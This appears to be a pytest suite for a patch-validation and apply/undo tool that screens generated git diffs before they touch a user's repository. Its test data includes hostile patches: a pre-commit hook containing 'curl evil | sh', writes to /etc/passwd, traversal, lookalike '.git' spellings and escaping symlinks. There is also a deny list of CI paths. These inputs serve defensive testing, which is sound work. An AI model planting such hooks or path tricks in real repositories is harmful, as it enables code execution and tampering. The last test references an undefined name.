"""Reading and applying results to the user's repo: RELIABILITY items 14, 18 and 19, on real git repos,
and the one diff parser against `git apply` itself."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from bakeoff.agent.github.client import GitHub
from bakeoff.agent.github.deliver import deliver
from bakeoff.agent.github.trigger import Trigger
from bakeoff.agent.apply import UndoRefused, apply_patch, undo
from bakeoff.agent.path_rules import path_problems
from bakeoff.agent.patches import PatchRejected, parse_patch, validate_patch
from tests.github_server import FakeGitHub


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    r.mkdir()
    git(r, "init", "-q", "-b", "main")
    git(r, "config", "user.email", "dev@example.com")
    git(r, "config", "user.name", "Dev")
    (r / "src").mkdir()
    (r / "src" / "a.c").write_text("int a(void) {\n    return 1;\n}\n")
    (r / "README").write_text("hello\n")
    (r / "old.txt").write_text("to be deleted\n")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "base")
    return r


def snapshot(repo: Path) -> dict[str, object]:
    """Everything undo must restore: files (bytes), index, HEAD, branch, branches."""
    files = {}
    for dirpath, dirnames, filenames in os.walk(repo):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in filenames:
            p = Path(dirpath) / name
            files[str(p.relative_to(repo))] = ("link", os.readlink(p)) if p.is_symlink() else p.read_bytes()
    dirs = sorted(str(Path(d).relative_to(repo)) for d, _, _ in os.walk(repo) if ".git" not in Path(d).parts)
    return {
        "files": files, "dirs": dirs,
        "index": git(repo, "ls-files", "-s"),
        "head": git(repo, "rev-parse", "HEAD"),
        "branch": git(repo, "symbolic-ref", "-q", "HEAD"),
        "branches": git(repo, "branch", "--list"),
    }


def diff_of(repo: Path, edit) -> str:
    """A real git patch: make the edit, take the diff, put the repo back."""
    edit(repo)
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--cached", "HEAD")
    git(repo, "reset", "-q", "--hard", "HEAD")
    git(repo, "clean", "-qfd")
    return patch


def good_edit(repo: Path) -> None:
    (repo / "src" / "a.c").write_text("int a(void) {\n    return 2;\n}\n")
    (repo / "src" / "new").mkdir()
    (repo / "src" / "new" / "b.c").write_text("int b(void) { return 3; }\n")
    (repo / "old.txt").unlink()


# --------------------------------------------------------------------------- item 14


@pytest.mark.parametrize("patch, reason", [
    ("--- a/../evil\n+++ b/../evil\n@@ -0,0 +1 @@\n+x\n", "leaves the repository"),
    ("--- /dev/null\n+++ /etc/passwd\n@@ -0,0 +1 @@\n+x\n", "absolute path"),
    ("diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
     "+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n", ".git/"),
    ("diff --git a/sub/.git/config b/sub/.git/config\n--- a/sub/.git/config\n+++ b/sub/.git/config\n"
     "@@ -1 +1 @@\n-a\n+b\n", ".git/"),
    ("--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n", "CI file"),
    ("--- /dev/null\n+++ b/.GitHub/Workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n", "CI file"),
    ("--- /dev/null\n+++ b/.GIT/config\n@@ -0,0 +1 @@\n+x\n", ".git/"),
    ("diff --git a/x b/y\nsimilarity index 100%\nrename from src/a.c\nrename to ../a.c\n", "leaves the repository"),
    ("--- /dev/null\n+++ b/.gitlab-ci.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/.circleci/config.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/Jenkinsfile\n@@ -0,0 +1 @@\n+pipeline {}\n", "CI file"),
    ("--- /dev/null\n+++ b/azure-pipelines.yml\n@@ -0,0 +1 @@\n+x: y\n", "CI file"),
    ("--- /dev/null\n+++ b/.ci/run\n@@ -0,0 +1 @@\n+x\n", "CI file"),
    ("diff --git a/link b/link\nnew file mode 120000\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/passwd\n"
     "\\ No newline at end of file\n", "points outside"),
    ("diff --git a/src/up b/src/up\nnew file mode 120000\n--- /dev/null\n+++ b/src/up\n@@ -0,0 +1 @@\n+../../x\n"
     "\\ No newline at end of file\n", "points outside"),
    ("diff --git a/bin.dat b/bin.dat\nnew file mode 100644\nindex 0000000..e69de29\nGIT binary patch\n"
     "literal 3\nKcmZ>Y0000\n\nliteral 0\nHcmV?d00001\n\n", "binary patch"),
    ("this is not a diff at all\n", "malformed"),
    ("--- a/README\n+++ b/README\n@@ -1,3 +1,3 @@\n-hello\n+bye\n", "malformed"),
])
def test_unsafe_patches_are_rejected_before_anything_is_applied(repo: Path, patch: str, reason: str) -> None:
    before = snapshot(repo)
    reasons = validate_patch(patch, repo)
    assert any(reason in r for r in reasons), reasons
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, message="evil")
    assert any(reason in r for r in err.value.reasons)
    assert snapshot(repo) == before
    assert not Path("/etc/passwd").read_text().startswith("x\n")


def test_a_path_through_an_existing_symlink_leaving_the_repo_is_rejected(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, repo / "out")
    patch = "--- /dev/null\n+++ b/out/planted.txt\n@@ -0,0 +1 @@\n+x\n"
    assert any("symlink leaving" in r for r in validate_patch(patch, repo))
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch)
    assert not (outside / "planted.txt").exists()


def test_a_symlink_inside_the_repo_and_a_good_patch_are_accepted(repo: Path) -> None:
    inside = ("diff --git a/src/readme b/src/readme\nnew file mode 120000\n--- /dev/null\n+++ b/src/readme\n"
              "@@ -0,0 +1 @@\n+../README\n\\ No newline at end of file\n")
    assert validate_patch(inside, repo) == []
    assert validate_patch(diff_of(repo, good_edit), repo) == []


# --------------------------------------------------------------------------- path rules that survive spelling


def quoted(path: str) -> str:
    """``path`` as git writes a name in a diff: C-quoted (octal UTF-8 bytes) when it must be."""
    if all(c.isprintable() and c not in '"\\' and ord(c) < 128 for c in path):
        return path
    body = "".join(c if c.isprintable() and c not in '"\\' and ord(c) < 128 else "".join(f"\\{b:03o}" for b in c.encode())
                   for c in path)
    return f'"{body}"'


def creating(path: str) -> str:
    old, new = quoted("a/" + path), quoted("b/" + path)
    return f"diff --git {old} {new}\nnew file mode 100644\n--- /dev/null\n+++ {new}\n@@ -0,0 +1 @@\n+owned\n"


@pytest.mark.parametrize("path, reason", [
    (".g\u200dit/hooks/pre-commit", "invisible"),  # a zero-width joiner
    (".g\u200cit/config", "invisible"),
    ("\ufeff.git/config", "invisible"),
    (".g\u0456t/config", ".git/"),  # a Cyrillic i
    (".\u0261it/config", ".git/"),  # a script g
    (".GIT\u0301/config", ".git/"),  # a combining accent
    ("\uff0e\uff0e/outside.txt", "leaves the repository"),  # fullwidth dots
    ("\u2025/outside.txt", "leaves the repository"),  # a two-dot leader
    ("src/\u3002\u3002/x", "leaves the repository"),
    ("a\nb.txt", "control"),
    ("a\rb.txt", "control"),
    ("nul\0byte.txt", "control"),
    ("src/\u202ecod.exe", "bidirectional"),  # a right-to-left override
    ("src/\u2066x.c", "bidirectional"),
    (".git./config", ".git/"),  # NTFS drops trailing dots
    (".git /config", ".git/"),
    (".git::$INDEX_ALLOCATION/config", ".git/"),
    ("GIT~1/config", ".git/"),  # an 8.3 short name
    ("sub/.Git/config", ".git/"),
    (".github/actions/setup/action.yml", "CI file"),
    (".github/dependabot.yml", "CI file"),
    (".GITHUB/workflows/x.yml", "CI file"),
    (".travis.yml", "CI file"),
    (".gitlab/ci/build.yml", "CI file"),
    (".gitlab-ci.yml", "CI file"),
    ("service/.circleci/config.yml", "CI file"),
    ("ci/Jenkinsfile", "CI file"),
    ("Jenkinsfile.groovy", "CI file"),
    ("CODEOWNERS", "CI file"),
    (".gitmodules", "repository configuration"),
    (".gitattributes", "repository configuration"),
    ("src/.gitattributes", "repository configuration"),
    (".lfsconfig", "repository configuration"),
    ("a\\..\\..\\evil", "backslash"),
    ("src/./a.c", "'.' component"),
])
def test_paths_are_judged_as_they_read_not_as_they_are_spelled(repo: Path, path: str, reason: str) -> None:
    patch = creating(path)
    assert parse_patch(patch).paths == [path]
    reasons = validate_patch(patch, repo)
    assert any(reason in r for r in reasons), reasons
    assert not any(c in r for r in reasons for c in "\n\r\0\u202e")  # the reason names the path escaped
    before = snapshot(repo)
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch, message="evil")
    assert snapshot(repo) == before
    assert path_problems(path)  # the rule a candidate's edits obey too


def test_git_configuration_files_need_the_explicit_opt_in(repo: Path) -> None:
    patch = creating(".gitattributes")
    assert validate_patch(patch, repo) and validate_patch(patch, repo, allow_git_config=True) == []
    assert validate_patch(creating(".git/config"), repo, allow_git_config=True)  # never .git itself


@pytest.mark.parametrize("path", ["src/naïve.c", "日本語/ファイル.txt", "отчет.txt", "my file.txt", "trail ",
                                  ".gitignore", "docs/github.md", "src/ci/run.c", "tests/.github_fixture"])
def test_honest_unusual_names_are_accepted(repo: Path, path: str) -> None:
    assert validate_patch(creating(path), repo) == []


# --------------------------------------------------------------------------- symlinks in the tree the patch makes


def symlink(name: str, target: str) -> str:
    return (f"diff --git a/{name} b/{name}\nnew file mode 120000\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1 @@\n"
            f"+{target}\n\\ No newline at end of file\n")


def refused_and_untouched(repo: Path, patch: str, reason: str) -> None:
    reasons = validate_patch(patch, repo)
    assert any(reason in r for r in reasons), reasons
    before = snapshot(repo)
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch, message="evil")
    assert snapshot(repo) == before


def commit_all(repo: Path) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "links")


def test_a_chain_of_new_symlinks_that_leaves_is_refused(repo: Path) -> None:
    refused_and_untouched(repo, symlink("a", ".") + symlink("b", "a/a/../.."), "points outside")


def test_a_new_symlink_through_an_existing_one_that_leaves_is_refused(repo: Path) -> None:
    os.symlink(".", repo / "a")
    commit_all(repo)
    refused_and_untouched(repo, symlink("b", "a/a/../.."), "points outside")


def test_a_new_symlink_that_makes_an_existing_one_leave_is_refused(repo: Path) -> None:
    os.symlink("src/up/../..", repo / "b")  # today: src/.. is the repository
    commit_all(repo)
    refused_and_untouched(repo, symlink("src/up", "."), "symlink b would lead outside")


@pytest.mark.parametrize("target, reason", [
    (".git/config", ".git/"), ("src/../.GIT/hooks", ".git/"), (".github/workflows", "CI file"),
    ("/etc/passwd", "points outside"), ("../../etc/passwd", "points outside"), ("", "unusable target"),
])
def test_a_symlink_into_git_ci_or_out_is_refused(repo: Path, target: str, reason: str) -> None:
    refused_and_untouched(repo, symlink("link", target), reason)


def test_a_submodule_is_refused(repo: Path) -> None:
    gitlink = ("diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n"
               "+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit " + "1" * 40 + "\n")
    refused_and_untouched(repo, gitlink, "file mode 160000")


def test_a_symlink_loop_is_refused(repo: Path) -> None:
    refused_and_untouched(repo, symlink("a", "b") + symlink("b", "a"), "loop")


def test_retargeting_an_existing_symlink_is_checked(repo: Path) -> None:
    os.symlink("a.c", repo / "src" / "link")
    commit_all(repo)
    retarget = lambda r: (os.unlink(r / "src" / "link"), os.symlink("../../outside", r / "src" / "link"))  # noqa: E731
    refused_and_untouched(repo, diff_of(repo, retarget), "points outside")
    bare = "--- a/src/link\n+++ b/src/link\n@@ -1 +1 @@\n-a.c\n\\ No newline at end of file\n+../../outside\n" \
           "\\ No newline at end of file\n"  # no index line: the mode comes from the disk
    refused_and_untouched(repo, bare, "points outside")


def test_a_symlink_edited_as_a_file_is_refused(repo: Path) -> None:
    os.symlink("../README", repo / "src" / "readme")
    commit_all(repo)
    as_file = ("diff --git a/src/readme b/src/readme\nindex 1111111..2222222 100644\n--- a/src/readme\n"
               "+++ b/src/readme\n@@ -1 +1 @@\n-hello\n+owned\n")
    refused_and_untouched(repo, as_file, "is a symlink, but the patch edits it as a file")


def test_a_symlink_renamed_where_its_target_leaves_is_refused(repo: Path) -> None:
    os.symlink("../README", repo / "src" / "readme")
    commit_all(repo)
    refused_and_untouched(repo, "diff --git a/src/readme b/readme\nsimilarity index 100%\nrename from src/readme\n"
                                "rename to readme\n", "points outside")


def test_a_file_made_a_symlink_by_its_mode_is_refused(repo: Path) -> None:
    (repo / "target").write_text("../../etc/passwd")
    commit_all(repo)
    refused_and_untouched(repo, "diff --git a/target b/target\nold mode 100644\nnew mode 120000\n", "points outside")


def test_a_path_beneath_a_symlink_is_refused(repo: Path) -> None:
    os.symlink("src", repo / "code")
    commit_all(repo)
    refused_and_untouched(repo, "--- /dev/null\n+++ b/code/planted.c\n@@ -0,0 +1 @@\n+x\n", "through a symlink")
    refused_and_untouched(repo, symlink("lib", "src") + "--- /dev/null\n+++ b/lib/planted.c\n@@ -0,0 +1 @@\n+x\n",
                          "symlink the patch creates")


# --------------------------------------------------------------------------- apply and undo


def test_apply_without_commit_then_undo_restores_exactly(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "notes.txt").write_text("user's own untracked work\n")  # untouched by the patch
    before = snapshot(repo)
    change = apply_patch(repo, patch, base_commit=before["head"].strip())
    assert "return 2" in (repo / "src" / "a.c").read_text()
    assert (repo / "src" / "new" / "b.c").exists() and not (repo / "old.txt").exists()
    assert git(repo, "rev-parse", "HEAD") == before["head"]
    undo(repo, change)
    assert snapshot(repo) == before


def test_apply_as_commit_on_current_branch_then_undo(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "staged.txt").write_text("user staged this\n")
    git(repo, "add", "staged.txt")  # the user's staged work must not ride along in our commit
    before = snapshot(repo)
    change = apply_patch(repo, patch, message="bakeoff: return 2")
    assert change.committed and change.head_after != change.head_before
    committed = git(repo, "show", "--name-only", "--format=", "HEAD").split()
    assert sorted(committed) == ["old.txt", "src/a.c", "src/new/b.c"]
    assert "staged.txt" in git(repo, "diff", "--cached", "--name-only")
    undo(repo, change)
    assert snapshot(repo) == before


def test_apply_on_new_branch_then_undo(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    before = snapshot(repo)
    change = apply_patch(repo, patch, message="bakeoff result", branch="bakeoff/fast")
    assert git(repo, "symbolic-ref", "--short", "HEAD").strip() == "bakeoff/fast"
    assert git(repo, "rev-parse", "main") == before["head"]
    undo(repo, change)
    assert snapshot(repo) == before


# --------------------------------------------------------------------------- item 18


def test_moved_base_is_refused_and_nothing_of_the_user_is_lost(repo: Path) -> None:
    base = git(repo, "rev-parse", "HEAD").strip()
    patch = diff_of(repo, good_edit)
    (repo / "README").write_text("the user kept working\n")
    git(repo, "commit", "-qam", "user commit during the run")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, base_commit=base)
    assert "moved" in str(err.value)
    assert snapshot(repo) == before


def test_uncommitted_edit_of_a_touched_file_is_refused(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "a.c").write_text("int a(void) { return 42; } /* user's edit */\n")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, base_commit=git(repo, "rev-parse", "HEAD").strip())
    assert "src/a.c" in str(err.value)
    assert snapshot(repo) == before


def test_untracked_file_where_the_patch_creates_one_is_refused(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "new").mkdir()
    (repo / "src" / "new" / "b.c").write_text("user's file\n")
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch)
    assert (repo / "src" / "new" / "b.c").read_text() == "user's file\n"


# --------------------------------------------------------------------------- item 19


def test_conflicting_patch_leaves_the_tree_unchanged(repo: Path) -> None:
    patch = diff_of(repo, good_edit)
    (repo / "src" / "a.c").write_text("int a(void) {\n    return 7;\n}\n")
    git(repo, "commit", "-qam", "changed upstream")
    before = snapshot(repo)
    with pytest.raises(PatchRejected) as err:
        apply_patch(repo, patch, message="x")
    assert "apply" in str(err.value)
    assert snapshot(repo) == before


def test_failure_in_the_middle_of_a_commit_restores_everything(repo: Path) -> None:
    """A ref-update hook fails after the files were written: the apply is rolled back."""
    patch = diff_of(repo, good_edit)
    hook = repo / ".git" / "hooks" / "reference-transaction"
    hook.write_text('#!/bin/sh\n[ "$1" = prepared ] && exit 1\nexit 0\n')
    hook.chmod(0o755)
    before = snapshot(repo)
    with pytest.raises(PatchRejected):
        apply_patch(repo, patch, message="x", branch="bakeoff/x")
    hook.unlink()
    assert snapshot(repo) == before


def test_ctrl_c_during_apply_restores_everything(repo: Path) -> None:
    """SIGINT reaches bakeoff while git is committing: KeyboardInterrupt, tree restored."""
    patch = diff_of(repo, good_edit)
    hook = repo / ".git" / "hooks" / "reference-transaction"
    # The hook's parent is git; git's parent is this test process.
    hook.write_text('#!/bin/sh\n[ "$1" = prepared ] || exit 0\nrm -f "$0"\n'
                    'kill -INT "$(ps -o ppid= -p $PPID)"\nsleep 2\n')
    hook.chmod(0o755)
    before = snapshot(repo)
    with pytest.raises(KeyboardInterrupt):
        apply_patch(repo, patch, message="x")
    assert not hook.exists()  # it fired
    assert snapshot(repo) == before
    assert not (repo / ".git" / "index.lock").exists()


def test_undo_refuses_when_the_user_changed_things_after_the_apply(repo: Path) -> None:
    change = apply_patch(repo, diff_of(repo, good_edit))
    (repo / "src" / "a.c").write_text("user edited after the apply\n")
    with pytest.raises(UndoRefused) as err:
        undo(repo, change)
    assert "src/a.c" in str(err.value)
    assert (repo / "src" / "a.c").read_text() == "user edited after the apply\n"


def test_applied_change_serializes(repo: Path) -> None:
    change = apply_patch(repo, diff_of(repo, good_edit), message="m")
    from bakeoff.agent.apply import AppliedChange

    again = AppliedChange.model_validate_json(change.model_dump_json())
    undo(repo, again)
    assert (repo / "old.txt").exists()


# --------------------------------------------------------------------------- the parse reads what git applies
#
# A corpus of real `git diff` output: for each, the paths the one parser reads (and validation
# checks) must be exactly the paths `git apply` changes, and what is applied or delivered must be
# exactly what `git apply` makes of it.

CORPUS_FILES = {
    "src/a.c": "int a(void) {\n    return 1;\n}\n",
    "notes.lua": "-- old note\nprint(1)\n-- a/evil\nprint(2)\n",
    "steps.c": "void f(int i) {\n++i;\n--i;\n}\n",
    "query.sql": "select 1;\n-- a comment\nselect 2;\n",
    "docs/guide.md": "".join(f"line {n}\n" for n in range(1, 21)),
    "script.sh": "echo hi\n",
    "my file.txt": "spaces\n",
    'naïve "quoted".txt': "unicode and quotes\n",
    "trail ": "a trailing space in the name\n",
    "feed.c": "int x;\n\x0c\nint y; /* \u2028 */\nint z;\n",
    "nonl.txt": "no newline at the end",
    "empty.txt": "",
    "old.txt": "to be deleted\n",
    "crlf.txt": "a\r\nb\r\n",
}
CORPUS_LINKS = {"docs/latest": "guide.md"}


def write(repo: Path, rel: str, text: str) -> None:
    (repo / rel).parent.mkdir(parents=True, exist_ok=True)
    (repo / rel).write_bytes(text.encode())  # as given: CRLF stays CRLF


def replace(repo: Path, rel: str, old: str, new: str) -> None:
    text = (repo / rel).read_bytes().decode()
    assert old in text
    (repo / rel).write_bytes(text.replace(old, new).encode())


def rename(repo: Path, old: str, new: str) -> None:
    (repo / new).parent.mkdir(parents=True, exist_ok=True)
    (repo / old).rename(repo / new)


def relink(repo: Path, rel: str, target: str) -> None:
    (repo / rel).unlink()
    os.symlink(target, repo / rel)


def odd_names(repo: Path) -> None:
    for name in ("my file.txt", 'naïve "quoted".txt', "trail "):
        replace(repo, name, "\n", " (edited)\n")


def several(repo: Path) -> None:
    for edit in ("modified", "deleted", "renamed in its folder", "mode change", "a hunk that reads like file headers",
                 "C increments at the line start", "a new file with spaces", "names with spaces, unicode, quotes",
                 "a symlink retargeted inside"):
        EDITS[edit](repo)


EDITS = {
    "modified": lambda r: replace(r, "src/a.c", "return 1", "return 2"),
    "added": lambda r: write(r, "src/new/b.c", "int b(void) { return 3; }\n"),
    "deleted": lambda r: (r / "old.txt").unlink(),
    "renamed and edited": lambda r: (rename(r, "docs/guide.md", "manual/guide.md"),
                                     replace(r, "manual/guide.md", "line 5\n", "line five\n")),
    "renamed as is": lambda r: rename(r, "script.sh", "bin/script.sh"),
    "renamed in its folder": lambda r: rename(r, "src/a.c", "src/b.c"),
    "mode change": lambda r: (r / "script.sh").chmod(0o755),
    "a removed '-- ' comment": lambda r: replace(r, "notes.lua", "-- old note\n", ""),
    "a hunk that reads like file headers": lambda r: replace(r, "notes.lua", "-- a/evil\n",
                                                             "++ b/.github/workflows/ci.yml\n"),
    "C increments at the line start": lambda r: replace(r, "steps.c", "++i;\n--i;\n", "++ i;\n"),
    "an SQL comment": lambda r: replace(r, "query.sql", "-- a comment\n", "-- another comment\n"),
    "names with spaces, unicode, quotes": odd_names,
    "a new file with spaces": lambda r: write(r, "new dir/new file.txt", "hello\n"),
    "form feed and U+2028 inside lines": lambda r: replace(r, "feed.c", "int z;", "int z = 1;"),
    "no newline at the end": lambda r: replace(r, "nonl.txt", "the end", "the very end"),
    "an empty file added": lambda r: write(r, "blank.txt", ""),
    "an empty file deleted": lambda r: (r / "empty.txt").unlink(),
    "a symlink added": lambda r: os.symlink("../notes.lua", r / "src" / "notes"),
    "a symlink retargeted inside": lambda r: relink(r, "docs/latest", "../src/a.c"),
    "a file replaced by a symlink": lambda r: ((r / "script.sh").unlink(), os.symlink("nonl.txt", r / "script.sh")),
    "a symlink replaced by a file": lambda r: ((r / "docs" / "latest").unlink(), write(r, "docs/latest", "plain\n")),
    "a file copied and the original edited": lambda r: (write(r, "manual/copy.md", (r / "docs/guide.md").read_text()),
                                                        replace(r, "docs/guide.md", "line 1\n", "line one\n")),
    "CRLF lines": lambda r: replace(r, "crlf.txt", "a\r\n", "c\r\n"),
    "several files": several,
}


def git_bytes(repo: Path, *args: str, input: str | None = None) -> bytes:
    return subprocess.run(["git", *args], cwd=repo, input=None if input is None else input.encode(),
                          check=True, capture_output=True).stdout


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    r = tmp_path / "corpus"
    r.mkdir()
    git(r, "init", "-q", "-b", "main")
    git(r, "config", "user.email", "dev@example.com")
    git(r, "config", "user.name", "Dev")
    for rel, text in CORPUS_FILES.items():
        write(r, rel, text)
    for rel, target in CORPUS_LINKS.items():
        os.symlink(target, r / rel)
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "base")
    return r


def corpus_diff(repo: Path, edit) -> tuple[str, str]:
    """A real git patch of ``edit`` (renames found), and the tree it leads to; the repo is put back."""
    edit(repo)
    git(repo, "add", "-A")
    tree = git(repo, "write-tree").strip()
    patch = git_bytes(repo, "diff", "--cached", "-M", "-C", "HEAD").decode()
    git(repo, "reset", "-q", "--hard", "HEAD")
    git(repo, "clean", "-qfd")
    return patch, tree


def git_would_touch(repo: Path, patch: str) -> set[str]:
    """The paths `git apply` reads or changes: those --numstat names, and the old side of each
    rename or copy --summary names."""
    numstat = git_bytes(repo, "apply", "--numstat", "-z", input=patch)
    paths = {entry.split(b"\t", 2)[2].decode() for entry in numstat.split(b"\0") if entry}
    for line in git_bytes(repo, "apply", "--summary", "-z", input=patch).decode().splitlines():
        if moved := re.fullmatch(r" (?:rename|copy) (.+) \(\d+%\)", line):
            braces = re.fullmatch(r"(.*)\{(.*) => (.*)\}(.*)", moved[1])
            old = braces[1] + braces[2] + braces[4] if braces else moved[1].split(" => ")[0]
            paths.add(re.sub("/+", "/", old).lstrip("/"))
    return paths


def test_the_corpus_has_what_it_promises(corpus: Path) -> None:
    summaries = " ".join(git_bytes(corpus, "apply", "--summary", input=corpus_diff(corpus, EDITS[case])[0]).decode()
                         for case in ("renamed in its folder", "mode change"))
    assert "rename src/{a.c => b.c}" in summaries and "mode change 100644 => 100755" in summaries
    lookalikes = corpus_diff(corpus, EDITS["a hunk that reads like file headers"])[0]
    assert "\n--- a/evil\n+++ b/.github/workflows/ci.yml\n" in lookalikes
    increments = corpus_diff(corpus, EDITS["C increments at the line start"])[0]
    assert "\n-++i;\n---i;\n+++ i;\n" in increments
    copied = corpus_diff(corpus, EDITS["a file copied and the original edited"])[0]
    assert "\ncopy from docs/guide.md\ncopy to manual/copy.md\n" in copied
    retargeted = corpus_diff(corpus, EDITS["a symlink retargeted inside"])[0]
    assert re.search(r"\nindex \w+\.\.\w+ 120000\n", retargeted) and "new mode" not in retargeted
    retyped = corpus_diff(corpus, EDITS["a file replaced by a symlink"])[0]
    assert retyped.count("diff --git a/script.sh b/script.sh") == 2 and "new file mode 120000" in retyped
    assert "\r\n" in corpus_diff(corpus, EDITS["CRLF lines"])[0]


@pytest.mark.parametrize("case", list(EDITS))
def test_the_parse_reads_exactly_the_paths_git_apply_changes(corpus: Path, case: str) -> None:
    patch, _ = corpus_diff(corpus, EDITS[case])
    parsed = parse_patch(patch)
    assert parsed.problems == []
    assert set(parsed.paths) == git_would_touch(corpus, patch)
    assert validate_patch(patch, corpus) == []


def test_hunk_lines_that_read_like_file_headers_stay_in_their_hunk(corpus: Path) -> None:
    patch, _ = corpus_diff(corpus, EDITS["a hunk that reads like file headers"])
    (f,) = parse_patch(patch).files
    assert (f.old_path, f.new_path) == ("notes.lua", "notes.lua")
    (h,) = f.hunks
    assert (h.old_start, h.old_len, h.new_start, h.new_len) == (1, 4, 1, 4)
    assert h.lines == [" -- old note", " print(1)", "--- a/evil", "+++ b/.github/workflows/ci.yml", " print(2)"]
    assert h.new_text == ["-- old note", "print(1)", "++ b/.github/workflows/ci.yml", "print(2)"]


@pytest.mark.parametrize("case", list(EDITS))
def test_apply_patch_commits_exactly_what_git_apply_makes(corpus: Path, case: str) -> None:
    patch, tree = corpus_diff(corpus, EDITS[case])
    before = snapshot(corpus)
    change = apply_patch(corpus, patch, message="bakeoff result")
    assert git(corpus, "rev-parse", "HEAD^{tree}").strip() == tree
    undo(corpus, change)
    assert snapshot(corpus) == before


def git_apply_result(repo: Path, clone: Path, patch: str) -> dict[str, tuple[str, bytes] | None]:
    """What `git apply` of ``patch`` changes in a clone of ``repo``: path -> (mode, bytes), None if deleted."""
    git(repo.parent, "clone", "-q", str(repo), str(clone))
    git_bytes(clone, "apply", "--index", input=patch)
    fields = git_bytes(clone, "diff", "--cached", "--raw", "-z", "--no-renames", "--no-abbrev", "HEAD").split(b"\0")
    changed: dict[str, tuple[str, bytes] | None] = {}
    for meta, path in zip(fields[0::2], fields[1::2]):
        _, mode, _, sha, status = meta.decode().split()
        changed[path.decode()] = None if status == "D" else (mode, git_bytes(clone, "cat-file", "blob", sha))
    return changed


@pytest.mark.parametrize("case", list(EDITS))
def test_deliver_in_fix_mode_commits_exactly_what_git_apply_changes(corpus: Path, tmp_path: Path, case: str) -> None:
    patch, _ = corpus_diff(corpus, EDITS[case])
    expected = git_apply_result(corpus, tmp_path / "clone", patch)
    trigger = Trigger(event="issue_comment", repo="o/r", pr=7, actor="dev", instruction="make it faster",
                      head_sha="a" * 40, head_ref="feature")
    report = {"status": "success", "patch": patch, "verdict": {"winner": "c1"}}
    before = snapshot(corpus)
    with FakeGitHub() as server:
        outcome = deliver(GitHub("token", "o/r", api_url=server.url), trigger, report, repo=corpus, mode="fix")
    assert outcome.startswith("Opened draft PR #99"), outcome
    assert server.committed_files() == expected
    assert snapshot(corpus) == before  # the checkout is only read


def whole_files(repo: Path) -> list[dict]:
    """What GitHub's pull-request files endpoint would say if the PR had touched every line of every
    file: a hunk over each, so any change may sit on it as a suggestion."""
    files = []
    for path in git(repo, "ls-files", "-z").split("\0")[:-1]:
        if not (repo / path).is_symlink():
            n = len((repo / path).read_bytes().split(b"\n"))
            files.append({"filename": path, "patch": f"@@ -1,{n} +1,{n} @@\n" + " x\n" * n})
    return files


def suggested(review: dict, repo: Path) -> dict[str, bytes]:
    """Each file with the review's suggestions applied, as a reviewer clicking them would."""
    result: dict[str, list[bytes]] = {}
    for c in sorted(review["comments"], key=lambda c: c["line"], reverse=True):
        lines = result.setdefault(c["path"], (repo / c["path"]).read_bytes().split(b"\n"))
        body = c["body"].split("\n")
        opening = next(i for i, line in enumerate(body) if line.lstrip("`") == "suggestion")
        fence = body[opening][: -len("suggestion")]
        lines[c.get("start_line", c["line"]) - 1: c["line"]] = [s.encode() for s in body[opening + 1: body.index(fence)]]
    return {path: b"\n".join(lines) for path, lines in result.items()}


@pytest.mark.parametrize("case", list(EDITS))
def test_deliver_in_review_mode_suggests_exactly_what_git_apply_changes(corpus: Path, tmp_path: Path, case: str) -> None:
    patch, _ = corpus_diff(corpus, EDITS[case])
    expected = git_apply_result(corpus, tmp_path / "clone", patch)
    trigger = Trigger(event="issue_comment", repo="o/r", pr=7, actor="dev", instruction="go", head_sha="a" * 40)
    with FakeGitHub(pull_files={7: whole_files(corpus)}) as server:
        outcome = deliver(GitHub("token", "o/r", api_url=server.url), trigger,
                          {"status": "success", "patch": patch, "verdict": {"winner": "c1"}}, repo=corpus, mode="review")
    assert outcome.startswith("Posted a review"), outcome
    (review,) = [body for method, path, body in server.requests if path.endswith("/reviews")]
    by_hand = set(re.findall(r"^--- (.+?)(?: \(.*\))?$", review["body"], re.M))  # left for the body, as diff text
    moved_from = set(re.findall(r"^--- .+ \((?:renamed|copied) from ([^;)]+)", review["body"], re.M))
    assert {c["path"] for c in review["comments"]} | by_hand <= set(parse_patch(patch).paths)
    assert set(expected) <= by_hand | moved_from | {c["path"] for c in review["comments"]}  # nothing goes unsaid
    for path, data in suggested(review, corpus).items():
        if path not in by_hand:
            assert (expected[path][1] if expected.get(path) else None) == data, path
    if case in IN_PLACE:
        assert review["comments"] and not by_hand
